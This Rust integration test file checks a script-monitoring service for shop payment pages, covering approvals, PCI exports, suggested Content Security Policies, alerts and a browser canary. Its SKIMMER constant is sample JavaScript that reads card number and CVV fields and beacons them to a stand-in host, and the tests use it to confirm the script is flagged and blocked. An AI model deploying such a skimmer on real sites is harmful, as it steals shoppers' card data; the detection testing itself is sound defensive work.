//! Payment pages, a suggested policy, and test calls of alert routes, over the router.
#![allow(
    clippy::unwrap_used,
    clippy::print_stdout,
    reason = "what is not as expected fails the test; what was skipped is said"
)]

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::TcpListener;
use std::time::Duration;

use axum::Router;
use axum::body::{Body, to_bytes};
use axum::http::{Method, Request, StatusCode};
use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use serde_json::{Value, json};
use service::policy::Csp;
use service::{Config, Service};
use sha2::{Digest as _, Sha256};
use tower::ServiceExt as _;
use verdict::ResourceKind;

struct Shop {
    folder: tempfile::TempDir,
    service: Service,
    router: Router,
}

impl Shop {
    fn new(config: &str) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let mut config = Config::parse(&config.replace("FOLDER", folder.path().to_str().unwrap())).unwrap();
        config.state = folder.path().join("state");
        let service = Service::open(config).unwrap();
        let router = service.router();
        Self { folder, service, router }
    }

    async fn send(&self, method: Method, path: &str, body: impl Into<Body>) -> (StatusCode, String) {
        let token = self.service.new_token().unwrap();
        let request =
            Request::builder().method(method).uri(path).header("authorization", format!("Bearer {token}"));
        let request = request.header("content-type", "application/json").body(body.into()).unwrap();
        let answer = self.router.clone().oneshot(request).await.unwrap();
        let status = answer.status();
        let bytes = to_bytes(answer.into_body(), 10 << 20).await.unwrap();
        (status, String::from_utf8(bytes.to_vec()).unwrap())
    }

    async fn get(&self, path: &str) -> Value {
        let (status, text) = self.send(Method::GET, path, "").await;
        assert_eq!(status, StatusCode::OK, "{path}: {text}");
        serde_json::from_str(&text).unwrap()
    }

    /// Three reports of each script, taken in.
    async fn seen(&self, scripts: &[(&str, &str, &str)]) {
        let mut lines = String::new();
        for (url, page, text) in scripts {
            let line = json!({"kind": "script", "url": url, "page_url": page, "text": text});
            lines.push_str(&format!("{line}\n").repeat(3));
        }
        let (status, text) = self.send(Method::POST, "/observe/shop", lines).await;
        assert_eq!(status, StatusCode::OK, "{text}");
        let name = "shop".parse().unwrap();
        for _ in 0..1_500 {
            if let Some(site) = self.service.sites().get(&name).await.unwrap()
                && site.read(|reader| reader.count()).await.unwrap() >= scripts.len() as u64
            {
                return;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        panic!("it never came into the inventory");
    }
}

const PAY: &str = "https://shop.example/checkout/pay";
/// Sends nothing: the host does not exist, and nobody runs it.
const SKIMMER: &str = "document.querySelector('#pay').addEventListener('click', function () {\
    var card = { cc_number: document.getElementById('cc_number').value, cvv: document.getElementById('cc_cid').value };\
    new Image().src = '//collect.invalid/p.gif?d=' + btoa(JSON.stringify(card));\
});";

#[tokio::test(flavor = "multi_thread")]
async fn payment_pages_tell_what_was_approved_and_what_was_not() {
    let shop = Shop::new("");
    shop.seen(&[
        ("https://cdn.pay.example/sdk.js", PAY, "rate(1)"),
        ("https://cdn.stars.example/w.js", PAY, "rate(2)"),
        ("https://cdn.blog.example/b.js", "https://shop.example/blog", "rate(3)"),
        ("https://cdn.bad.example/x.js", PAY, SKIMMER),
    ])
    .await;
    let resources = shop.get("/api/v1/sites/shop/resources").await;
    let id = |host: &str| {
        let rows = resources["resources"].as_array().unwrap();
        rows.iter().find(|row| row["host"] == host).unwrap()["id"].as_u64().unwrap()
    };
    let rows = resources["resources"].as_array().unwrap();
    let hash = &rows.iter().find(|row| row["host"] == "cdn.pay.example").unwrap()["hash"];
    let said = json!({"justification": "takes the payment", "approve": true, "hash": hash});
    let path = format!("/api/v1/sites/shop/resources/{}/justification", id("cdn.pay.example"));
    let (status, text) = shop.send(Method::POST, &path, said.to_string()).await;
    assert!(status.is_success(), "{text}");
    let rows = shop.get("/api/v1/sites/shop/pci?page=https://shop.example/checkout/*").await;
    let rows = rows["rows"].as_array().unwrap();
    let shown: Vec<(&str, &str, bool)> = rows
        .iter()
        .map(|row| {
            let text = |name: &str| row[name].as_str().unwrap();
            (text("host"), text("integrity"), row["malicious"].as_bool().unwrap())
        })
        .collect();
    assert_eq!(
        shown,
        [
            ("cdn.bad.example", "not_approved", true),
            ("cdn.stars.example", "not_approved", false),
            ("cdn.pay.example", "approved", false),
        ]
    );
    assert_eq!(rows[2]["justification"], "takes the payment");
    assert!(rows[2]["review_by"].as_str() > rows[2]["approved_at"].as_str());
    let (_, csv) = shop.send(Method::GET, "/api/v1/sites/shop/pci?export=csv", "").await;
    assert_eq!(csv.lines().count(), 5);
    // Another content is no longer what was approved.
    shop.seen(&[("https://cdn.pay.example/sdk.js", PAY, "rate(1); more()")]).await;
    for _ in 0..1_500 {
        let rows = shop.get("/api/v1/sites/shop/pci?page=*pay").await;
        if rows["rows"].as_array().unwrap().iter().any(|row| row["integrity"] == "changed") {
            return;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    panic!("the change was not told");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_suggested_policy_allows_what_was_seen_and_not_what_is_malicious() {
    let shop = Shop::new("");
    shop.seen(&[
        ("https://shop.example/own.js", PAY, "rate(1)"),
        ("https://cdn.stars.example:8443/w.js", PAY, "rate(2)"),
        ("https://cdn.bad.example/x.js", PAY, SKIMMER),
    ])
    .await;
    let suggestion = shop.get("/api/v1/sites/shop/policy-suggestion").await;
    let value = suggestion["value"].as_str().unwrap();
    let csp: Csp = value.parse().unwrap();
    for (url, allowed) in [
        ("https://shop.example/own.js", true),
        ("https://cdn.stars.example:8443/w.js", true),
        ("https://cdn.bad.example/x.js", false),
        ("https://cdn.other.example/y.js", false),
    ] {
        assert_eq!(csp.allows(ResourceKind::Script, url, PAY), allowed, "{url}: {value}");
    }
    let blocked = suggestion["blocked"].as_array().unwrap();
    assert!(
        blocked.iter().all(|one| one["url"].as_str().unwrap().contains("cdn.bad.example")),
        "{suggestion}"
    );
    assert!(blocked.iter().any(|one| one["malicious"] == true), "{suggestion}");
    let (status, _) = shop.send(Method::GET, "/api/v1/sites/shop/policy-suggestion?days=0", "").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_test_call_arrives_or_says_why_not() {
    let shop = Shop::new(
        "[[alerts.routes]]\nname = 'siem'\nto = { ecs = { path = 'FOLDER/alerts.jsonl' } }\n\
         [[alerts.routes]]\nname = 'broken'\nto = { ecs = { path = 'FOLDER/none/alerts.jsonl' } }\n",
    );
    let routes = shop.get("/api/v1/alert-routes").await;
    assert_eq!(routes["routes"][0], json!({"name": "siem", "receiver": "ecs"}));
    let call = json!({"site": "shop"}).to_string();
    let (_, text) = shop.send(Method::POST, "/api/v1/alert-routes/siem/test", call.clone()).await;
    assert_eq!(serde_json::from_str::<Value>(&text).unwrap(), json!({"arrived": true}));
    assert_eq!(std::fs::read_to_string(shop.folder.path().join("alerts.jsonl")).unwrap().lines().count(), 1);
    let (_, text) = shop.send(Method::POST, "/api/v1/alert-routes/broken/test", call.clone()).await;
    let answer: Value = serde_json::from_str(&text).unwrap();
    assert!(
        answer["arrived"] == false && answer["problem"].as_str().unwrap().contains("cannot be written"),
        "{text}"
    );
    let (status, _) = shop.send(Method::POST, "/api/v1/alert-routes/none/test", call).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

/// A server that answers each request with the next headers, and the last ones from then on.
fn page_with(headers: &'static [&'static str]) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        let mut at = 0;
        while let Ok((stream, _)) = listener.accept() {
            let mut lines = BufReader::new(&stream).lines().map_while(Result::ok);
            while lines.next().is_some_and(|line| !line.is_empty()) {}
            let own = headers[at.min(headers.len() - 1)];
            at += 1;
            let _ = write!(&stream, "HTTP/1.1 200 OK\r\n{own}content-length: 0\r\nconnection: close\r\n\r\n");
        }
    });
    format!("http://{address}/pay")
}

#[tokio::test(flavor = "multi_thread")]
async fn a_security_header_that_goes_is_told_in_one_cycle() {
    let url = page_with(&[
        "content-security-policy: script-src 'nonce-a'\r\nx-frame-options: DENY\r\n",
        "content-security-policy: script-src 'nonce-b'\r\nx-frame-options: DENY\r\n",
        "x-frame-options: DENY\r\n",
    ]);
    let shop = Shop::new(&format!(
        "[fetcher]\nprivate_hosts = ['127.0.0.1']\n[headers]\nevery_seconds = 1\n[[headers.pages]]\nsite = 'shop'\nurl = '{url}'\n\
         [sites]\nnames = ['shop']\n[[alerts.routes]]\nname = 'siem'\nto = {{ ecs = {{ path = 'FOLDER/alerts.jsonl' }} }}\n"
    ));
    let path = shop.folder.path().join("alerts.jsonl");
    let told = |path: &std::path::Path| std::fs::read_to_string(path).unwrap_or_default();
    for _ in 0..1_500 {
        if !told(&path).is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let text = told(&path);
    assert!(text.contains("header_change") && text.contains("/pay"), "{text}");
    let pages = shop.get("/api/v1/sites/shop/headers").await;
    assert_eq!(pages["pages"][0]["changes"], json!(["content-security-policy was removed"]));
    let (status, _) =
        shop.send(Method::POST, "/api/v1/sites/shop/headers/pin", json!({"url": url}).to_string()).await;
    assert_eq!(status, StatusCode::OK);
    let pages = shop.get("/api/v1/sites/shop/headers").await;
    assert_eq!(pages["pages"][0]["changes"], json!([]));
    // The change was told once.
    assert_eq!(told(&path).lines().count(), 1);
}

/// A shop on this machine: a checkout whose loader adds a script in browsers, and a page that is gone.
fn shop_on_loopback() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming().map_while(Result::ok) {
            std::thread::spawn(move || {
                let mut lines = BufReader::new(&stream).lines().map_while(Result::ok);
                let first = lines.next().unwrap_or_default();
                while lines.next().is_some_and(|line| !line.is_empty()) {}
                let path = first.split([' ', '?']).nth(1).unwrap_or_default();
                let (status, kind, body) = match path {
                    "/pay" => (
                        200,
                        "text/html",
                        "<script src=/sdk.js></script><script>eval(['add(\"/la', 'te.js\")'].join(''));\
                         function add(path) { const s = document.createElement('script'); s.src = path; document.head.append(s) }</script>",
                    ),
                    "/sdk.js" => (200, "text/javascript", "rate(1)"),
                    "/late.js" => (200, "text/javascript", "rate(2)"),
                    _ => (404, "text/plain", "none"),
                };
                let length = body.len();
                let _ = write!(
                    &stream,
                    "HTTP/1.1 {status} X\r\ncontent-type: {kind}\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n{body}"
                );
            });
        }
    });
    format!("http://{address}")
}

#[tokio::test(flavor = "multi_thread")]
async fn a_canary_visits_payment_pages() {
    let site = shop_on_loopback();
    let has_browser = std::process::Command::new("chromium").arg("--version").output().is_ok();
    assert!(has_browser || std::env::var_os("CI").is_none(), "CI installs chromium");
    if !has_browser {
        println!("SKIPPED: without chromium, the canary is tested by the network alone");
    }
    let config = format!(
        "[fetcher]\nprivate_hosts = ['127.0.0.1']\nenabled = false\n[sites]\nnames = ['shop', 'other']\n\
         [canary]\nevery_seconds = 3600\nretry_seconds = 300\n\
         [[canary.pages]]\nsite = 'shop'\nurl = '{site}/gone'\n\
         [[canary.pages]]\nsite = 'shop'\nurl = '{site}/pay'\nbrowser = {has_browser}\n\
         [[canary.pages]]\nsite = 'other'\nurl = '{site}/pay?network'\n"
    );
    let shop = Shop::new(&config);
    let mut pages = Vec::new();
    for _ in 0..3_000 {
        let status = shop.get("/status").await;
        pages = status["canary"].as_array().cloned().unwrap_or_default();
        if pages.len() == 3 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let of = |end: &str| pages.iter().find(|page| page["url"].as_str().unwrap().ends_with(end)).unwrap();
    let gone = of("/gone");
    assert_eq!((&gone["failures"], &gone["scripts"]), (&json!(1), &json!(0)));
    assert!(gone["problems"][0].as_str().unwrap().contains("404") && gone["read_at"].is_null(), "{gone}");
    let pay = of("/pay");
    assert_eq!((&pay["failures"], &pay["problems"]), (&json!(0), &json!([])), "{pay}");
    assert!(pay["read_at"].is_string() && pay["next_at"].is_string(), "{pay}");
    assert_eq!(pay["only_browser"].as_u64() > Some(0), has_browser, "{pay}");
    assert_eq!(of("/pay?network")["only_browser"], 0);
    let resources = shop.get("/api/v1/sites/shop/resources").await;
    let rows = resources["resources"].as_array().unwrap();
    let url = |end: &str| rows.iter().any(|row| row["url"].as_str().is_some_and(|url| url.ends_with(end)));
    assert!(url("/sdk.js") && url("/late.js") == has_browser, "{resources}");
    let (_, metrics) = shop.send(Method::GET, "/metrics", "").await;
    assert!(metrics.contains("pagewarden_visits_total{outcome=\"failed\"} 1"), "{metrics}");

    // Whoever starts again visits no page before its time.
    let before = of("/pay")["visited_at"].clone();
    shop.service.stop().await;
    let Shop { folder, service, router } = shop;
    drop((service, router));
    let mut again = Config::parse(&config).unwrap();
    again.state = folder.path().join("state");
    let service = Service::open(again).unwrap();
    let (_, token) = service.tokens().add("again", &[service::Scope::Read], None).unwrap();
    let mut seen = json!(null);
    for _ in 0..1_000 {
        let request = Request::get("/status").header("authorization", format!("Bearer {token}"));
        let answer = service.router().oneshot(request.body(Body::empty()).unwrap()).await.unwrap();
        let status: Value =
            serde_json::from_slice(&to_bytes(answer.into_body(), 1 << 20).await.unwrap()).unwrap();
        let known = status["canary"].as_array().cloned().unwrap_or_default();
        if known.len() == 3 {
            seen = known.iter().find(|page| page["url"].as_str().unwrap().ends_with("/pay")).unwrap()["visited_at"].clone();
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert_eq!(seen, before);
    service.stop().await;
}

#[test]
fn a_canary_that_cannot_work_is_told_at_the_start() {
    let folder = tempfile::tempdir().unwrap();
    let page = "[[canary.pages]]\nsite = 'shop'\nurl = 'https://shop.example/'\n";
    std::fs::write(folder.path().join("wrong.steps"), "click #a\ndance").unwrap();
    let steps = folder.path().join("wrong.steps");
    for (config, part) in [
        ("[canary]\nevery_seconds = 0\n".to_owned(), "every_seconds"),
        ("[canary]\njitter = 1.0\n".to_owned(), "jitter"),
        ("[canary]\nvisit_seconds = 0\n".to_owned(), "visit_seconds"),
        ("[[canary.pages]]\nsite = 'shop'\nurl = 'pay'\n".to_owned(), "not a web address"),
        ("[[canary.pages]]\nsite = 'shop'\nurl = 'https://kim:x@shop.example/'\n".to_owned(), "password"),
        (format!("{page}scroll = true\n"), "browser = true"),
        (format!("{page}{page}"), "twice"),
        (format!("{page}browser = true\nsteps = '{}'\n", steps.display()), "line 2"),
        (format!("[canary]\nchromium = '/nowhere/chromium'\n{page}browser = true\n"), "/nowhere/chromium"),
    ] {
        let opened = Config::parse(&config).and_then(|mut config| {
            config.state = folder.path().join("state");
            Service::open(config).map(drop)
        });
        let error = opened.unwrap_err().message_with_causes();
        assert!(error.contains(part), "{config}: {error}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_policy_scopes_the_alerts_of_routes_that_ask_for_it() {
    let route = |name: &str, rest: &str| {
        format!(
            "[[alerts.routes]]\nname = '{name}'\npreset = 'everything'\n{rest}\nto = {{ ecs = {{ path = 'FOLDER/{name}' }} }}\n"
        )
    };
    let shop = Shop::new(&(route("all", "") + &route("scoped", "policies = true")));
    shop.seen(&[("https://cdn.first.example/a.js", PAY, "rate(1)")]).await;
    let told = async |name: &'static str, host: &'static str| {
        let path = shop.folder.path().join(name);
        for _ in 0..1_500 {
            let text = std::fs::read_to_string(&path).unwrap_or_default();
            if text.contains(host) {
                return text;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        panic!("{name} never heard of {host}");
    };
    // Without a policy nothing is in its scope.
    told("all", "cdn.first.example").await;
    let policy = |action: &str, value: &str, expression: &str| {
        json!({"action": action, "description": "d", "enabled": true, "value": value, "expression": expression})
            .to_string()
    };
    let checkout = "starts_with(http.request.uri.path, \"/checkout/\")";
    for body in [
        policy("allow", "script-src https://*.known.example", checkout),
        // What only asks for reports allows nothing.
        policy("add_reporting_directives", "script-src https://cdn.report.example", "true"),
    ] {
        let (status, text) =
            shop.send(Method::POST, "/client/v4/zones/shop/page_shield/policies", body).await;
        assert_eq!(status, StatusCode::OK, "{text}");
    }
    // Until the thread has taken up the policies.
    tokio::time::sleep(Duration::from_millis(1_500)).await;
    shop.seen(&[
        ("https://cdn.stranger.example/a.js", PAY, "rate(2)"),
        ("https://cdn.report.example/a.js", PAY, "rate(3)"),
        ("https://cdn.known.example/elsewhere.js", "https://shop.example/blog", "rate(4)"),
        ("https://cdn.known.example/a.js", PAY, "rate(5)"),
        ("https://cdn.bad.example/x.js", PAY, SKIMMER),
    ])
    .await;
    let all = told("all", "cdn.bad.example").await;
    for host in ["cdn.stranger.example", "cdn.report.example", "cdn.known.example/elsewhere.js"] {
        assert!(all.contains(host), "{host}: {all}");
    }
    told("scoped", "cdn.bad.example").await;
    let scoped = told("scoped", "cdn.known.example/a.js").await;
    for host in ["cdn.first.example", "cdn.stranger.example", "cdn.report.example", "elsewhere.js"] {
        assert!(!scoped.contains(host), "{host}: {scoped}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn owner_purpose_and_review_are_what_somebody_said() {
    let shop = Shop::new("");
    shop.seen(&[("https://cdn.pay.example/sdk.js", PAY, "rate(1)")]).await;
    let path = "/api/v1/sites/shop/resources/1/justification";
    let hash = shop.get("/api/v1/sites/shop/resources/1").await["hash"].clone();
    let say = async |said: Value| {
        let (status, text) = shop.send(Method::POST, path, said.to_string()).await;
        assert!(status.is_success(), "{text}");
    };
    let row = async || shop.get("/api/v1/sites/shop/pci").await["rows"][0].clone();
    say(json!({
        "justification": "takes the payment", "owner": "Payments team", "purpose": "card form",
        "review_by": "2999-01-01T00:00:00Z",
    }))
    .await;
    let first = row().await;
    assert_eq!(
        (&first["owner"], &first["purpose"], &first["review_by"], &first["approved_by"]),
        (&json!("Payments team"), &json!("card form"), &json!("2999-01-01T00:00:00Z"), &Value::Null)
    );
    // Who says nothing of them leaves them, and an approval is a review.
    say(json!({"justification": "looked at \"it\", twice", "approve": true, "hash": hash})).await;
    let second = row().await;
    assert_eq!(
        (&second["owner"], &second["purpose"], &second["approved_by"]),
        (&json!("Payments team"), &json!("card form"), &json!("first"))
    );
    assert!(second["review_by"].as_str().is_some_and(|at| at < "2100"), "{second}");
    let said: Vec<_> = second["history"].as_array().unwrap().iter().map(|said| &said["approved"]).collect();
    assert_eq!(said, [true, false]);
    for wrong in [
        json!({"justification": "x", "owner": " "}),
        json!({"justification": "x", "owner": "o".repeat(201)}),
        json!({"justification": "x", "purpose": "p".repeat(1_001)}),
        json!({"justification": "x", "review_by": "2000-01-01T00:00:00Z"}),
        json!({"justification": "x", "review_by": "soon"}),
        json!(["in the order of the fields", false, null, null, null, null]),
    ] {
        let (status, text) = shop.send(Method::POST, path, wrong.to_string()).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{text}");
    }
    let (_, csv) = shop.send(Method::GET, "/api/v1/sites/shop/pci?export=csv", "").await;
    let header = csv.lines().next().unwrap();
    assert!(
        header.contains(",owner,purpose,justification,approved,approved_by,approved_at,review_by,"),
        "{header}"
    );
    assert!(header.ends_with(",history") && csv.contains(",Payments team,card form,"), "{csv}");
    assert!(csv.contains(": first approved: looked at \"\"it\"\", twice\n"), "{csv}");
    assert!(csv.contains(": first kept a reason: takes the payment\""), "{csv}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_suggestion_has_hashes_of_inline_scripts_that_stay_the_same() {
    let shop = Shop::new("");
    let inline = " rate( 1 )\n";
    for token in ["first", "second"] {
        let html = format!("<script>{inline}</script><script>secret('{token}', 3)</script>");
        let har = json!({"log": {"pages": [{"id": "p", "title": PAY}], "entries": [
            {"pageref": "p", "request": {"url": PAY, "headers": []},
                "response": {"headers": [], "content": {"mimeType": "text/html", "text": html}}}]}});
        let (status, text) = shop.send(Method::POST, "/observe/shop", har.to_string()).await;
        assert_eq!(status, StatusCode::OK, "{text}");
    }
    let mut suggestion = json!(null);
    for _ in 0..1_500 {
        let (status, text) =
            shop.send(Method::GET, "/api/v1/sites/shop/policy-suggestion?page=*pay", "").await;
        suggestion = serde_json::from_str(&text).unwrap();
        if status == StatusCode::OK && suggestion["blocked"].as_array().is_some_and(|all| !all.is_empty()) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let value = suggestion["value"].as_str().unwrap();
    let hash = BASE64_STANDARD.encode(Sha256::digest(inline.as_bytes()));
    assert!(value.contains(&format!(" 'sha256-{hash}' ")), "{value}");
    assert_eq!((value.contains("inline:"), value.matches("sha256-").count()), (false, 1), "{value}");
    let blocked = suggestion["blocked"].as_array().unwrap();
    assert_eq!(blocked.len(), 1, "{suggestion}");
    assert!(blocked[0]["url"].as_str().unwrap().starts_with("inline:"), "{suggestion}");
}
